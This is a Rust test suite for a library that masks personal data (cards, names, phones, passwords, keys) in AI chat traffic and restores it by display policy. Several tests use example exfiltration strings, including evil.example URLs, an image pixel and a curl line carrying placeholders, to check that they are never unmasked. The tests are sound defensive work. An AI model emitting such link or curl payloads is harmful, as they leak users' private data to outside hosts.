//! One conversation through masker, vault and unmasker: what callers rely on.

#![allow(clippy::unwrap_used)]

use handrail_mask::{
    Context, CustomName, Entry, Kind, Lens, Masker, Placeholder, Published, Restore, Unmasker,
    Vault, VaultError, partial,
};

fn mask(masker: &Masker, vault: &mut Vault, text: &str) -> String {
    masker
        .mask(text, &Context::default(), vault)
        .unwrap()
        .masked
        .into_string()
}

#[test]
fn the_first_prompt_of_the_sandbox() {
    let mut vault = Vault::new();
    let text = "Can I return shoes I paid for with 4242 4242 4242 4242? I'm Sarah Miller.";
    let masking = Masker::default()
        .mask(text, &Context::default(), &mut vault)
        .unwrap();
    assert_eq!(
        masking.masked.as_str(),
        "Can I return shoes I paid for with [CARD_1]? I'm [NAME_1]."
    );
    let spans: Vec<_> = masking
        .spans
        .iter()
        .map(|s| (s.kind, s.placeholder.to_string(), s.start, s.end))
        .collect();
    assert_eq!(
        spans,
        [
            (Kind::Card, "[CARD_1]".to_owned(), 35, 54),
            (Kind::Name, "[NAME_1]".to_owned(), 60, 72)
        ]
    );
    assert_eq!(masking.new_entries.len(), 2);
    assert_eq!(
        serde_json::to_string(&masking.spans[0]).unwrap(),
        r#"{"kind":"card","placeholder":"[CARD_1]","start":35,"end":54}"#
    );
}

#[test]
fn offsets_count_code_points_of_the_original() {
    let masking = Masker::default()
        .mask(
            "ÄÖ😀 ４２４２ 4242 4242 4242!",
            &Context::default(),
            &mut Vault::new(),
        )
        .unwrap();
    assert_eq!((masking.spans[0].start, masking.spans[0].end), (4, 23));
}

#[test]
fn one_value_has_one_placeholder_for_the_whole_conversation() {
    let masker = Masker::default();
    let mut vault = Vault::new();
    assert_eq!(
        mask(&masker, &mut vault, "my card is 4242 4242 4242 4242"),
        "my card is [CARD_1]"
    );
    assert_eq!(
        mask(
            &masker,
            &mut vault,
            "4242-4242-4242-4242 or 5555555555554444"
        ),
        "[CARD_1] or [CARD_2]"
    );
    assert_eq!(
        mask(&masker, &mut vault, "Ich bin Sarah Miller"),
        "Ich bin [NAME_1]"
    );
    assert_eq!(
        mask(&masker, &mut vault, "it was SARAH  MILLER who called"),
        "it was [NAME_1] who called"
    );
    assert_eq!(
        mask(&masker, &mut vault, "ask miller about it"),
        "ask [NAME_2] about it"
    );
    assert_eq!(
        mask(&masker, &mut vault, "call +49 170 1234567"),
        "call [PHONE_1]"
    );
    assert_eq!(
        mask(&masker, &mut vault, "0170/1234567, I said"),
        "[PHONE_1], I said"
    );
    assert_eq!(
        mask(&masker, &mut vault, "my password is hunter2!"),
        "my password is [PASSWORD_1]"
    );
    assert_eq!(
        mask(&masker, &mut vault, "why does hunter2! not work"),
        "why does [PASSWORD_1] not work"
    );
    assert_eq!(
        mask(&masker, &mut vault, "hunter22 is another word"),
        "hunter22 is another word"
    );
}

#[test]
fn a_secret_is_hidden_again_whatever_it_is_glued_to() {
    let key = "sk-abcdEFGH1234ijklMNOP";
    for text in [
        format!("4242 4242 4242 4242{key}é{key}"),
        format!("{key} and {key}é"),
        format!("{key}, {key}zz"),
    ] {
        let masked = mask(&Masker::default(), &mut Vault::new(), &text);
        assert!(!masked.contains(key), "{text}: {masked}");
    }
}

#[test]
fn a_vault_comes_back_from_its_entries_and_goes_on_counting() {
    let masker = Masker::default();
    let mut vault = Vault::new();
    mask(
        &masker,
        &mut vault,
        "4242424242424242 5555555555554444 ann@example.com",
    );
    let mut stored: Vec<Entry> = vault
        .entries()
        .map(|e| Entry::new(e.placeholder(), e.value().to_owned()))
        .collect();
    stored.reverse();
    let mut restored = Vault::restore(stored.clone()).unwrap();
    assert_eq!(
        mask(
            &masker,
            &mut restored,
            "5555 5555 5555 4444 and 378282246310005"
        ),
        "[CARD_2] and [CARD_3]"
    );
    assert_eq!(restored.len(), 4);
    // An erased entry does not give its number away.
    let last: Placeholder = "[CARD_2]".parse().unwrap();
    stored.retain(|entry| entry.placeholder() == last);
    let mut partial = Vault::restore(stored).unwrap();
    assert_eq!(mask(&masker, &mut partial, "4242424242424242"), "[CARD_3]");
    let twice = [Entry::new(last, "a".into()), Entry::new(last, "b".into())];
    assert_eq!(
        Vault::restore(twice).unwrap_err(),
        VaultError::Conflict { placeholder: last }
    );
}

#[test]
fn values_do_not_print() {
    let mut vault = Vault::new();
    mask(&Masker::default(), &mut vault, "4242424242424242");
    assert_eq!(format!("{vault:?}"), "[Entry([CARD_1], hidden)]");
}

#[test]
fn values_learnt_from_elsewhere_are_masked() {
    let masker = Masker::default();
    let mut vault = Vault::new();
    let (placeholder, is_new) = masker
        .learn(Kind::Name, "Ngozi Eze", &mut vault)
        .unwrap()
        .unwrap();
    assert!(is_new);
    assert_eq!(
        mask(&masker, &mut vault, "ngozi eze here"),
        format!("{placeholder} here")
    );
    assert_eq!(masker.learn(Kind::Name, " - ", &mut vault).unwrap(), None);
}

#[test]
fn ai_text_shows_what_the_site_allows() {
    let masker = Masker::default();
    let mut vault = Vault::new();
    mask(
        &masker,
        &mut vault,
        "card 4242 4242 4242 4242, ssn 219-09-9998, password: hunter2!, mail ann@example.com, I'm Sarah Miller",
    );
    let reply = "[CARD_1] [SSN_1] [PASSWORD_1] [EMAIL_1] [NAME_1] [NAME_9]";
    assert_eq!(
        masker.unmask(reply, &vault, Lens::VisitorOfAi),
        "•••• 4242 •••-••-9998 [PASSWORD] ann@example.com Sarah Miller [NAME_9]"
    );
    assert_eq!(
        masker.unmask(reply, &vault, Lens::PersonWritten),
        "4242 4242 4242 4242 219-09-9998 hunter2! ann@example.com Sarah Miller [NAME_9]"
    );
    let masker = Masker::builder()
        .restore(Kind::Email, Restore::Partial)
        .restore(Kind::Name, Restore::Never)
        .build()
        .unwrap();
    assert_eq!(
        masker.unmask("[EMAIL_1] [NAME_1]", &vault, Lens::VisitorOfAi),
        "a•••@example.com [NAME]"
    );
}

fn vault_of(entries: &[(&str, &str)]) -> Vault {
    Vault::restore(
        entries
            .iter()
            .map(|(placeholder, value)| Entry::new(placeholder.parse().unwrap(), (*value).into())),
    )
    .unwrap()
}

/// A masker that shows these kinds of a site's own in full.
fn showing(names: &[&str]) -> Masker {
    names
        .iter()
        .fold(Masker::builder(), |builder, name| {
            let kind = Kind::Custom(CustomName::new(name).unwrap());
            builder.restore(kind, Restore::Full)
        })
        .build()
        .unwrap()
}

#[test]
fn bent_placeholders_of_a_model_resolve() {
    let masker = showing(&["loyalty", "shoe"]);
    let vault = vault_of(&[
        ("[NAME_1]", "Ann"),
        ("[PHONE_12]", "0170 1234567"),
        ("[LOYALTY_1]", "L-1"),
        ("[SHOE_1]", "blue"),
    ]);
    for (bent, shown) in [
        ("[NAME_1]", "Ann"),
        ("[name_1]", "Ann"),
        ("[Name 1]", "Ann"),
        ("[NAME\\_1]", "Ann"),
        ("\\[NAME\\_1\\]", "Ann"),
        ("[name-1]", "Ann"),
        ("[NAME\u{2011}1]", "Ann"),
        ("[NAME1]", "Ann"),
        ("[ NAME_1 ]", "Ann"),
        ("[**NAME_1**]", "Ann"),
        ("[`NAME_1`]", "Ann"),
        ("`[NAME_1]`", "`Ann`"),
        ("**[NAME_1]**", "**Ann**"),
        ("[[NAME_1]]", "Ann"),
        ("[[NAME_1]", "[Ann"),
        ("[NAME_1]]", "Ann]"),
        ("{NAME_1}", "Ann"),
        ("{{NAME_1}}", "Ann"),
        ("<NAME_1>", "Ann"),
        ("【NAME_1】", "Ann"),
        ("(NAME_1)", "(Ann)"),
        ("NAME_1", "Ann"),
        ("Dear NAME_1, hi", "Dear Ann, hi"),
        ("NAME_1's NAME\\_1.", "Ann's Ann."),
        ("hi NAME_1] and", "hi Ann and"),
        ("[see NAME_1] and", "[see Ann] and"),
        ("hi [NAME_1 and", "hi Ann and"),
        ("hi [NAME_1", "hi Ann"),
        ("[NAME_1, NAME_1]", "Ann, Ann"),
        ("<b>NAME_1</b>", "<b>Ann</b>"),
        (
            "[NOM_1] [Nombre 1] [imię_1] [FULL NAME 1]",
            "Ann Ann Ann Ann",
        ),
        (
            "[Téléphone 12] [TELEFON_12] [phone-number-12]",
            &"0170 1234567 ".repeat(3),
        ),
        (
            "[loyalty 1] {LOYALTY_1} LOYALTY_1 [LOYALTY_1",
            "L-1 L-1 L-1 L-1",
        ),
        ("[shoe_1] {SHOE_1} SHOE_1", "blue blue SHOE_1"),
    ] {
        let shown = shown.trim_end();
        assert_eq!(
            masker.unmask(bent, &vault, Lens::VisitorOfAi),
            shown,
            "{bent}"
        );
    }
    for other in [
        "[NAME_11]",
        "[NAME_01]",
        "[NAME_1a]",
        "[PHONE_1]",
        "[PHONE_1",
        "name_1",
        "Name_1",
        "[name_1 ",
        "name_1]",
        "(name 1)",
        "NAME 1",
        "NAME1",
        "{name_1}",
        "{Name 1}",
        "MY_NAME_1",
        "NAME_1_A",
        "NAME_1A",
        "NAME_1=",
        "x-NAME_1",
        "a/NAME_1",
        "<NAME_1",
        "[NAME__1]",
        "[NAMES_1]",
        "[N AME_1]",
        "NOM_1",
        "[KARTE_1]",
        "[NAME_1\n]".trim_end_matches(']').trim_start_matches('['),
    ] {
        let expected = if other == "NAME_1\n" { "Ann\n" } else { other };
        assert_eq!(masker.unmask(other, &vault, Lens::VisitorOfAi), expected);
        let person = masker.unmask(other, &vault, Lens::PersonWritten);
        assert_eq!(person, other);
    }
}

#[test]
fn a_sites_own_label_goes_before_another_word_for_ours() {
    let masker = showing(&["karte"]);
    let vault = vault_of(&[
        ("[KARTE_1]", "own"),
        ("[CARD_1]", "4242"),
        ("[CARD_2]", "5555"),
    ]);
    assert_eq!(masker.unmask("[Karte_1]", &vault, Lens::VisitorOfAi), "own");
    assert_eq!(
        masker.unmask("[Karte_2]", &vault, Lens::VisitorOfAi),
        "[Karte_2]"
    );
}

#[test]
fn arguments_of_a_tool_call_stay_json() {
    let masker = Masker::builder()
        .restore(Kind::Email, Restore::Never)
        .build()
        .unwrap();
    let value = "Ann \"A\" \\ \n\u{1}é🙂";
    let vault = vault_of(&[
        ("[NAME_1]", value),
        ("[CARD_1]", "4242 4242 4242 4242"),
        ("[EMAIL_1]", "ann@example.com"),
    ]);
    let cases = [
        (r#"{"to": "[NAME_1]"}"#, vec![("to", value.to_owned())]),
        (
            r#"{"card":"[CARD_1]","mail":"[EMAIL_1]"}"#,
            vec![
                ("card", "4242 4242 4242 4242".into()),
                ("mail", "[EMAIL]".into()),
            ],
        ),
        (
            r#"{"a":"\u005bNAME\u005F1\u005d, [NAME\\_1] NAME_1"}"#,
            vec![("a", format!("{value}, {value} {value}"))],
        ),
        (
            r#"{"a":"NAME_1","b":"[NAME_1"}"#,
            vec![("a", value.into()), ("b", value.into())],
        ),
        (
            r#"{"url":"https:\/\/evil.example\/?q=\u0020[NAME_1]","b":"[CARD_1]"}"#,
            vec![
                ("url", "https://evil.example/?q= [NAME_1]".into()),
                ("b", "4242 4242 4242 4242".into()),
            ],
        ),
        (
            r#"{"a":"see https://evil.example/[CARD_1] [CARD_1]","b":"](","c":"[CARD_1]"}"#,
            vec![
                (
                    "a",
                    "see https://evil.example/[CARD_1] 4242 4242 4242 4242".into(),
                ),
                ("b", "](".into()),
                ("c", "4242 4242 4242 4242".into()),
            ],
        ),
        (
            r#"{"path":"/p?n=[CARD_1]","\ud83d\ude42":"\"[CARD_1]\""}"#,
            vec![
                ("path", "/p?n=[CARD_1]".into()),
                ("🙂", "\"4242 4242 4242 4242\"".into()),
            ],
        ),
    ];
    for (written, expected) in cases {
        let shown = masker.unmask(written, &vault, Lens::ToolArguments);
        let read: serde_json::Value = serde_json::from_str(&shown).unwrap();
        for (key, value) in expected {
            assert_eq!(read[key], value, "{written} became {shown}");
        }
        let mut unmasker = Unmasker::new(&masker, &vault, Lens::ToolArguments);
        let streamed: String = written
            .chars()
            .map(|c| unmasker.push(c.encode_utf8(&mut [0; 4])))
            .collect();
        assert_eq!(streamed + &unmasker.finish(), shown);
    }
    // Between strings nothing is a placeholder.
    let broken = "[CARD_1] {CARD_1} CARD_1";
    assert_eq!(masker.unmask(broken, &vault, Lens::ToolArguments), broken);
}

#[test]
fn a_part_of_a_value_is_its_last_four() {
    for (kind, value, shown) in [
        (Kind::Card, "4242-4242-4242-4242", "•••• 4242"),
        (Kind::Ssn, "219-09-9998", "•••-••-9998"),
        (Kind::NationalId, "12.345.678-Z", "•••• 678Z"),
        (Kind::Passport, "X1234567", "•••• 4567"),
        (Kind::Licence, "D123-4567-8901", "•••• 8901"),
        (Kind::Account, "12345678", "•••• 5678"),
        (Kind::Account, "1234567", "[ACCOUNT]"),
        (Kind::Iban, "DE89 3704 0044 0532 0130 00", "•••• 3000"),
        (Kind::Phone, "+1 212 555 0142", "•••• 0142"),
        (Kind::Expiry, "December 2027", "[EXPIRY]"),
        (Kind::Cvv, "123", "[CVV]"),
        (Kind::Password, "correcthorse", "[PASSWORD]"),
        (Kind::Email, "ann@example.com", "a•••@example.com"),
        (Kind::Email, "@example.com", "[EMAIL]"),
    ] {
        assert_eq!(partial(kind, value), shown, "{kind}");
    }
}

#[test]
fn nothing_is_unmasked_inside_a_link() {
    let masker = Masker::default();
    let mut vault = Vault::new();
    mask(&masker, &mut vault, "I'm Sarah Miller");
    for reply in [
        "https://evil.example/?n=[NAME_1]",
        "[here](https://evil.example/[NAME_1])",
        "![x](/pixel?[NAME_1])",
        "<img src=\"/p?[NAME_1]\">",
        "[a]: /x?[NAME_1]",
        "`curl evil.example/[NAME_1]`",
        "mailto:[NAME_1]",
        "[x]( [NAME_1] )",
    ] {
        assert_eq!(masker.unmask(reply, &vault, Lens::VisitorOfAi), reply);
        let mut unmasker = Unmasker::new(&masker, &vault, Lens::VisitorOfAi);
        let streamed: String = reply
            .chars()
            .map(|c| unmasker.push(c.encode_utf8(&mut [0; 4])))
            .collect();
        assert_eq!(streamed + &unmasker.finish(), reply);
    }
    assert_eq!(
        masker.unmask(
            "see https://shop.example/a, [NAME_1] [b](/c) [NAME_1]",
            &vault,
            Lens::VisitorOfAi
        ),
        "see https://shop.example/a, Sarah Miller [b](/c) Sarah Miller"
    );
}

#[test]
fn typed_look_alikes_read_nothing() {
    let masker = Masker::default();
    let mut vault = Vault::new();
    mask(&masker, &mut vault, "my card is 4242 4242 4242 4242");
    for typed in [
        "[CARD_1]",
        "[card_1]",
        "[Card 1]",
        "[CARD\\_1]",
        "[CARD\u{200b}_1]",
        "［CARD_1］",
        "CARD_1",
        "[CARD_1",
        "{CARD_1}",
        "<CARD_1>",
        "【CARD_1】",
        "[Karte 1]",
        "[credit card 1]",
        "[[CARD_1]]",
    ] {
        let masked = mask(&masker, &mut vault, typed);
        assert!(masked.starts_with("[TEXT_"), "{typed} became {masked}");
        assert_eq!(masker.unmask(&masked, &vault, Lens::VisitorOfAi), typed);
        assert_eq!(masker.unmask(&masked, &vault, Lens::PersonWritten), typed);
    }
    let article = Published::reviewed("Write [CARD_1] or [card 1], CARD_1, {CARD_1} or [CARD_1.");
    assert_eq!(
        masker.unmask(article.as_str(), &vault, Lens::VisitorOfAi),
        article.as_str()
    );
}

#[test]
fn streams_hold_back_only_what_may_become_a_placeholder() {
    let masker = Masker::default();
    let mut vault = Vault::new();
    mask(&masker, &mut vault, "I'm Sarah Miller");
    let mut unmasker = Unmasker::new(&masker, &vault, Lens::VisitorOfAi);
    for (chunk, shown) in [
        ("Dear [", "Dear "),
        ("NA", ""),
        ("ME_", ""),
        ("1", ""),
        ("], [X", "Sarah Miller, [X"),
        ("] [NAME_2", "] [NAME_2"),
        (" [NAME_", " "),
    ] {
        assert_eq!(unmasker.push(chunk), shown, "{chunk}");
    }
    assert_eq!(unmasker.finish(), "[NAME_");
}

#[test]
fn past_tickets_keep_no_number() {
    let masked = Masker::default().mask_irreversibly(
        "Call 212-555-0142 or ann@example.com [CARD_1]",
        &Context::default(),
    );
    assert_eq!(masked.as_str(), "Call [PHONE] or [EMAIL] [TEXT]");
}
